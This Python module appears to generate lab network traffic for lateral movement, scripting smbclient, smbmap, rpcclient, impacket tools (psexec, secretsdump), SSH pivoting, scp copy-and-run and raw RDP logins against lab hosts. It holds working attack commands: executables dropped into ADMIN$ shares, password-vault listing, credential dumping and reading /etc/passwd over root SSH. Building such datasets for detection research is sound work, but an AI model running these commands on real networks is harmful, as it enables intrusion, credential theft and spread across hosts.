"""From one host to the next: SMB, remote desktops, shells behind shells."""

from attacks.exfil import SSH
from attacks.way import Way

EXAMPLES = "/usr/share/doc/python3-impacket/examples"
LOGIN = "alice:correct-horse"


def smbclient(act):
    """Looks into every share it may, puts a program there."""
    site, tool = act.server("smb"), act.scratch(act.rng.choice([80_000, 400_000]))
    for _ in act.every(act.draw("period_s", 0.3, 3.0), act.pick("jitter", [0, 0.5])):
        share = act.rng.choice(["ADMIN$", "C$", "IPC$", "files", "backup"])
        act.run(["smbclient", f"//{site.v4}/{share}", "correct-horse", "-U", "alice", "-c",
                 act.rng.choice(["ls", f"put {tool} svc{act.rng.randrange(999)}.exe", "recurse; ls", "ls *.kdbx"])], 6)


def smbmap(act):
    site = act.server("smb")
    for _ in act.every(act.draw("period_s", 0.5, 4.0), 0.3):
        act.run(["smbmap", "-H", site.v4, "-u", "alice", "-p", "correct-horse", *act.rng.choice([[], ["-R"], ["-x", "whoami"]])], 20)


def rpcclient(act):
    site = act.server("smb")
    for _ in act.every(act.draw("period_s", 0.2, 3.0), act.pick("jitter", [0, 0.5])):
        act.run(["rpcclient", "-U", "alice%correct-horse", site.v4, "-c", act.rng.choice([
            "enumdomusers", "enumdomgroups", "netshareenumall", "lookupnames root", "srvinfo", "querydispinfo", "lsaenumsid"])], 6)


def impacket(act):
    """The remote execution programs of a Windows administrator's library, each in turn."""
    site = act.server("smb")
    for _ in act.every(act.draw("period_s", 0.3, 3.0), 0.3):
        script = act.pick("script", ["psexec.py", "smbexec.py", "atexec.py", "services.py", "samrdump.py", "lookupsid.py", "secretsdump.py"])
        more = {"services.py": ["list"], "samrdump.py": [], "lookupsid.py": ["1100"], "secretsdump.py": []}.get(script, ["whoami"])
        act.run(["/usr/bin/python3", f"{EXAMPLES}/{script}", f"{LOGIN}@{site.v4}", *more], 20)


def desks(act):
    """Clients that others may log in to, in an order of one's own."""
    found = [host for host in act.recording.desks if host is not act.host]
    act.rng.shuffle(found)
    act.meet(*[address for host in found for address in (host.v4, host.v6)])
    return found


def ssh_words(host, *command):
    return ["ssh", *SSH, "-o", "ConnectTimeout=4", "-i", host.key, "-p", host.port["ssh"], f"root@{host.v4}", *command]


def ssh_round(act):
    """One key that opens every door."""
    found = desks(act)
    commands = ["id; uname -a", "cat /etc/passwd", "ls -laR /etc | head -c 30000", "cat > /dev/null"]
    for number in act.every(act.draw("period_s", 0.2, 3.0), act.pick("jitter", [0, 0.5])):
        act.run(ssh_words(found[number % len(found)], act.rng.choice(commands)), 6)


def ssh_pivot(act):
    """Through the server to hosts behind it: a shell in a shell, or a port that is forwarded."""
    site, found = act.server("smb"), [host for host in act.recording.desks if host is not act.host]
    act.relay(site, *[host.v4 for host in found])
    way = act.pick("shape", ["nested", "jump", "forward"])
    for number in act.every(act.draw("period_s", 0.3, 3.0), act.pick("jitter", [0, 0.5])):
        last = found[number % len(found)]
        inner = " ".join(map(str, ssh_words(last, "id")))
        if way == "nested":
            act.run(ssh_words(site, inner), 8)
        elif way == "jump":
            proxy = " ".join(map(str, ssh_words(site, "-W", f"{last.v4}:{last.port['ssh']}")))
            act.run(["ssh", *SSH, "-o", f"ProxyCommand={proxy}", "-i", last.key, f"root@{last.v4}", "id"], 8)
        else:
            port = act.rng.randrange(20000, 30000)
            # Goes into the background once the port is open, and ends with what is forwarded.
            outer = ["ssh", "-f", "-o", "ExitOnForwardFailure=yes", "-L", f"{port}:{last.v4}:{last.port['ssh']}",
                     *ssh_words(site, "sleep 3")[1:]]
            inner = ["ssh", *SSH, "-o", "ConnectTimeout=4", "-i", last.key, "-p", port, "root@127.0.0.1", "id"]
            act.run(["bash", "-c", f"{' '.join(map(str, outer))} && {' '.join(map(str, inner))}"], 6)


def scp_round(act):
    """A program copied to one host after the other, and started."""
    found, tool = desks(act), act.scratch(act.draw("bytes", 20_000, 900_000))
    for number in act.every(act.draw("period_s", 0.3, 3.0), 0.3):
        host = found[number % len(found)]
        act.run(["scp", "-q", *SSH, "-i", host.key, "-P", host.port["ssh"], tool, f"root@{host.v4}:/run/lab/tmp/t"], 8)
        act.run(ssh_words(host, "sh -c 'sleep 0.1; id'"), 6)


def desktop(act):
    """Remote desktops of one host after the other: a login, a look round, some seconds of work."""
    found = desks(act) + [act.server("rdp")]
    for number in act.every(act.draw("period_s", 0.2, 2.0), act.pick("jitter", [0, 0.5])):
        host = found[number % len(found)]
        try:
            with act.tcp(host.v4, host.port["rdp"], 4) as client:
                client.sendall(bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=admin\r\n" + bytes.fromhex("0100080003000000"))
                client.recv(1024)
                known = act.rng.random() < 0.5
                client.sendall((b"correct-horse" if known else b"wrong") + bytes(act.rng.randrange(200, 600)))
                for _ in range(act.rng.randrange(2, 30) if known else 1):
                    client.recv(65536)
                    if not act.pause(act.rng.expovariate(1 / 0.1)):
                        return
                    client.sendall(b"k" * act.rng.randrange(8, 60))
        except (TimeoutError, ConnectionError):
            pass


def rdp_check(act):
    """A real client's first words, from host to host."""
    found = desks(act) + [act.server("rdp")]
    for number in act.every(act.draw("period_s", 0.2, 2.0), 0.3):
        act.run(["/usr/bin/python3", f"{EXAMPLES}/rdp_check.py", f"{LOGIN}@{found[number % len(found)].v4}"], 15)


F, LONG = "lateral_movement", (10, 26)
CASES = [("smbclient", "smb", smbclient), ("smbmap", "smb", smbmap), ("rpcclient", "smb", rpcclient), ("impacket", "smb", impacket),
         ("impacket", "rdp", rdp_check), ("ssh", "round", ssh_round), ("ssh", "pivot", ssh_pivot), ("scp", "copies", scp_round),
         ("ours", "rdp", desktop)]
WAYS = [Way(F, tool, name, act, by=by, seconds=(18, 32) if tool in ("impacket", "smbmap") else LONG) for tool, name, act in CASES for by in ("client", "attacker")]
TOOLS = {"smbclient": "smbclient", "smbmap": "smbmap", "rpcclient": "smbclient", "impacket": "python3-impacket",
         "ssh": "openssh-client", "scp": "openssh-client", "ours": "ours"}
